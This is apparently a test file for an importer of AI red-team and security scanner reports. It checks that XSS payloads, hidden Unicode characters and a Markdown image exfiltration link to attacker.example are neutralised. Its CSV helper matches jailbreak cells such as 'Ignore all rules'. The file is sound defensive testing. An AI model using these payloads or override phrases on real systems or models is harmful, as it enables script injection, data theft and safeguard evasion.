import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { ImportedFinding, ResultTotals } from "#domain/findings/import/imported-finding.ts";
import { TEXT_LIMITS } from "#domain/findings/text-limits.ts";
import { isSingleLine } from "#domain/text/single-line.ts";
import { anyCharacter } from "#tests/support/any-character.ts";
import { ImportError } from "./import-error.ts";
import { EXAMPLE_FILES, EXAMPLE_TEXTS } from "./test-support/example-files.ts";
import { findActiveNodes, textOutsideCodeBlocks } from "./test-support/markdown-nodes.ts";
import { readFile, readJson, readText } from "./test-support/read-text.ts";

const HIDDEN_CHARACTER =
  /(?![\t\n])\p{Cc}|[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u;

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "[click](javascript:alert(1))",
  "![image](https://attacker.example/log?data=1)",
  "<javascript:alert(1)>",
  "[reference][id]\n\n[id]: javascript:alert(1)",
  "```\n</code><script>alert(1)</script>\n```",
  "~~~~~\n<script>\n",
  "\\<script>alert(1)\\</script>",
  "\\[click](javascript:alert(1))",
  "    <script>alert(1)</script>",
  `${"`".repeat(12_000)}<script>`,
  "hidden\u{e0041}\u{e0042} \u202e text \u001b[31m \u0000",
  "# Heading\n\n- item\n\n> quote\n\n| a | b |\n|---|---|\n| <b> | [x](y) |",
];

function sections({ description, evidence, recommendation }: ImportedFinding): string[] {
  return [description, evidence, recommendation];
}

function checkFinding(finding: ImportedFinding): void {
  for (const text of [finding.title, finding.affectedAsset, ...finding.tags]) {
    expect(isSingleLine(text)).toBe(true);
  }
  expect(finding.title.length).toBeGreaterThan(0);
  expect(finding.title.length).toBeLessThanOrEqual(TEXT_LIMITS.title);
  expect(finding.affectedAsset.length).toBeLessThanOrEqual(TEXT_LIMITS.affectedAsset);
  for (const section of sections(finding)) {
    expect(section.length).toBeLessThanOrEqual(TEXT_LIMITS.section);
    expect(section).not.toMatch(HIDDEN_CHARACTER);
    expect(findActiveNodes(section)).toEqual([]);
  }
  expect(finding.tags.every((tag) => tag.length <= TEXT_LIMITS.tag)).toBe(true);
  expect(finding.fingerprint).toMatch(/^[0-9a-f]{64}$/);
}

function countSkipped({ skipped }: ResultTotals): number {
  return Object.values(skipped).reduce((sum, count) => sum + count, 0);
}

const text = fc.oneof(
  fc.string({ unit: anyCharacter, maxLength: 200 }),
  fc.constantFrom(...PAYLOADS),
  fc.tuple(fc.constantFrom(...PAYLOADS), fc.string({ unit: anyCharacter })).map((parts) => parts.join("\n")),
);
const texts = fc.record({
  prompt: text,
  output: text,
  score: fc.double({ min: 0.5, max: 1, noNaN: true }),
  line: fc.integer({ min: 1, max: 10_000 }),
  time: fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
});

describe.each(EXAMPLE_FILES)("$name", ({ format, create }) => {
  test("gives the same fingerprint for other prompts, outputs, scores, lines and times", async () => {
    const first = await readText(format, create(EXAMPLE_TEXTS));
    await fc.assert(
      fc.asyncProperty(texts, async (values) => {
        const second = await readText(format, create(values));
        expect(second.findings.map((finding) => finding.fingerprint)).toEqual(
          first.findings.map((finding) => finding.fingerprint),
        );
      }),
      { numRuns: 20 },
    );
  });

  test("returns no hidden characters, no active Markdown and no text above the limits", async () => {
    await fc.assert(
      fc.asyncProperty(texts, async (values) => {
        const { findings } = await readText(format, create(values));
        expect(findings).toHaveLength(1);
        findings.forEach(checkFinding);
      }),
      { numRuns: 30 },
    );
  });

  test("shows prompts and outputs only in code blocks", async () => {
    const prompt = "MARKER <b> ``` \n\n MARKER ~~~ \n# MARKER";
    const { findings } = await readText(format, create({ ...EXAMPLE_TEXTS, prompt, output: prompt }));
    const outside = findings.flatMap((finding) => [
      finding.title,
      ...sections(finding).map(textOutsideCodeBlocks),
    ]);
    expect(outside.join("\n")).not.toContain("MARKER");
    expect(findings[0]?.evidence).toContain("MARKER");
  });

  test("gives the same result for each size of chunks", async () => {
    const file = create({ ...EXAMPLE_TEXTS, prompt: "Grüße 👋 \u{1f600}" });
    const expected = await readText(format, file);
    for (const chunkSize of [1, 2, 3, 7]) {
      expect(await readText(format, file, chunkSize)).toEqual(expected);
    }
  });

  test("accepts a byte order mark", async () => {
    const file = create(EXAMPLE_TEXTS);
    expect(await readText(format, `\ufeff${file}`)).toEqual(await readText(format, file));
  });

  test("rejects a truncated file, or the row that is cut", async () => {
    const file = create(EXAMPLE_TEXTS).trimEnd();
    // Nothing marks the end of hit logs, JSON lines and CSV, but a row that is cut is detected. The exception is an
    // empty last cell.
    const isDetectable = (length: number) =>
      format !== "csv" || !file.slice(0, length).endsWith('"Chatbot",');
    const start = format === "csv" ? file.lastIndexOf('"Jailbreak"') + 1 : 0;
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: start, max: file.length - 1 }).filter(isDetectable),
        async (length) => {
          const result = readText(format, file.slice(0, length));
          // Only the row of a CSV file is rejected, so that the others can be imported.
          const rejected = format === "csv" ? result.then(throwIfRowIsInvalid) : result;
          await expect(rejected).rejects.toBeInstanceOf(ImportError);
        },
      ),
      { numRuns: 30 },
    );
  });

  test("throws an ImportError for files that are not of the format", async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.string(), fc.json()), async (content) => {
        await expect(readText(format, content)).rejects.toBeInstanceOf(ImportError);
      }),
      { numRuns: 20 },
    );
  });
});

describe.each(EXAMPLE_FILES)("payloads in $name", ({ format, create }) => {
  test("have no effect in any text field of the file", async () => {
    for (const payload of PAYLOADS) {
      const { findings } = await readText(format, injectPayload(create(EXAMPLE_TEXTS), payload));
      findings.forEach(checkFinding);
    }
  });
});

/** Appends the payload to each text value that the importer does not use to recognize the row. */
function throwIfRowIsInvalid({ invalidRows }: ResultTotals): void {
  if (invalidRows.length > 0) {
    throw new ImportError("A row is invalid.");
  }
}

function injectPayload(file: string, payload: string): string {
  const keys = ["version", "entry_type", "level", "severity", "status", "time"];
  if (file.startsWith('"')) {
    return file.replace(
      /(?<=^|,)"(Jailbreak|Chatbot|Ignore all rules)"/gm,
      (_, cell: string) => `"${cell}${payload.replaceAll('"', '""')}"`,
    );
  }
  const inject = (line: string) =>
    JSON.stringify(JSON.parse(line), (key, value: unknown) =>
      typeof value === "string" && !keys.includes(key) ? `${value}${payload}` : value,
    );
  return file.trimEnd().split("\n").map(inject).join("\n");
}

describe("truncated test data", () => {
  test.each([
    ["garak", "garak-0.13-report.report.jsonl", '"completion"'],
    ["garak", "garak-0.14-with-ci.report.jsonl", '"completion"'],
    ["promptfoo", "promptfoo-v3-redteam-shaped.json", null],
    ["sarif", "sarif-suppressions.sarif", null],
    ["sarif", "sarif-taxonomies.sarif", null],
  ] as const)("of %s gives an ImportError: %s", async (format, name, lastRow) => {
    const file = readFileSync(new URL(`test-data/${name}`, import.meta.url), "utf8").trimEnd();
    // All results of a garak report are before its completion row.
    const end = lastRow ? file.indexOf(lastRow) : file.length - 1;
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: end }), async (length) => {
        await expect(readText(format, file.slice(0, length))).rejects.toBeInstanceOf(ImportError);
      }),
      { numRuns: 15 },
    );
  });
});

describe("limits", () => {
  test("rejects an empty file", async () => {
    await expect(readText("garak", "")).rejects.toThrow("The file is empty.");
  });

  test.each(["sarif", "garak", "promptfoo", "csv"] as const)("rejects UTF-16 in %s", async (format) => {
    const utf16 = async function* () {
      yield Uint8Array.from(Buffer.from("\ufefftitle,severity", "utf16le"));
    };
    await expect(readFile(format, utf16)).rejects.toThrow("Save it as UTF-8");
  });

  test.each(["garak", "promptfoo", "csv"] as const)("rejects other encodings in %s", async (format) => {
    const latin1 = async function* () {
      yield Uint8Array.from(Buffer.from("title,severity\nPrüfung,high", "latin1"));
    };
    await expect(readFile(format, latin1)).rejects.toThrow("Save it as UTF-8");
  });

  test.each([
    "sarif",
    "garak",
    "promptfoo",
    "csv",
  ] as const)("rejects more than 50 MB of %s", async (format) => {
    const endless = async function* () {
      const start = format === "csv" ? "title,severity\n" : "{}\n";
      yield new TextEncoder().encode(format === "garak" ? '{"entry_type":"init"}\n' : start);
      const spaces = new TextEncoder().encode(`${" ".repeat(1024 * 1024 - 1)}\n`);
      for (let index = 0; index < 60; index += 1) {
        yield spaces;
      }
    };
    await expect(readFile(format, endless)).rejects.toThrow("The file is larger than 50 MB.");
  });

  test("passes on errors of the stream", async () => {
    const failing = async function* (): AsyncGenerator<Uint8Array> {
      yield new TextEncoder().encode(" ");
      throw new TypeError("read failed");
    };
    for (const format of ["sarif", "garak", "promptfoo", "csv"] as const) {
      await expect(readFile(format, failing)).rejects.not.toBeInstanceOf(ImportError);
    }
  });

  test("rejects more than 20,000 results", async () => {
    const results = Array.from({ length: 20_001 }, () => ({ kind: "pass", message: { text: "a" } }));
    const file = { version: "2.1.0", runs: [{ tool: { driver: { name: "Scanner" } }, results }] };
    await expect(readJson("sarif", file)).rejects.toThrow("more than 20,000 results");
  });

  test("counts each result either in a finding or as skipped", async () => {
    for (const { format, create } of EXAMPLE_FILES) {
      const result = await readText(format, create(EXAMPLE_TEXTS));
      const inFindings = result.findings.reduce((sum, finding) => sum + finding.resultCount, 0);
      expect(result.resultCount).toBe(inFindings + countSkipped(result));
    }
  });
});
